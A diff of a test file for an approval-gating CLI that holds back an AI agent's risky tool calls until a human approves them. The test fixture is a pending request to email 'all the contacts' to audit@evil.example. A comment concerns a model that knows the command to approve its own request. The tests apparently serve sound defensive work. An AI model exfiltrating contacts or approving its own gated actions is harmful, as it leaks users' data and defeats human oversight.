@@ -3,6 +3,7 @@ import { Readable } from 'node:stream';
 import { describe, expect, it } from 'vitest';
 import { runCli } from '../../src/cli/run.ts';
 import { SqliteApprovalStore } from '../../src/store/sqlite/approvals.ts';
+import { sampleApprovalRequest } from '../helpers.ts';
 import { tempDirs } from '../store/stores.ts';
 
 // The model is told the command that approves its request (`ruleoftwo approvals approve <db> <id>`), and it can tell
@@ -13,23 +14,9 @@ const workdir = tempDirs();
 
 async function pending(path: string): Promise<void> {
   const store = new SqliteApprovalStore(path);
-  const now = Date.now();
-  await store.create({
-    id: 'r1',
-    hash: 'h',
-    sessionId: 's',
-    seq: 1,
-    callId: 'c',
-    tool: 'mail__send_email',
-    args: { to: 'audit@evil.example', body: 'all the contacts' },
-    policyVersion: 'v',
-    createdAt: now,
-    expiresAt: now + 60_000,
-    legsBefore: 'AB',
-    legsIfApproved: 'ABC',
-    reasons: [],
-    evidence: [],
-  });
+  await store.create(
+    sampleApprovalRequest({ tool: 'mail__send_email', args: { to: 'audit@evil.example', body: 'all the contacts' } }),
+  );
   await store.close();
 }
 
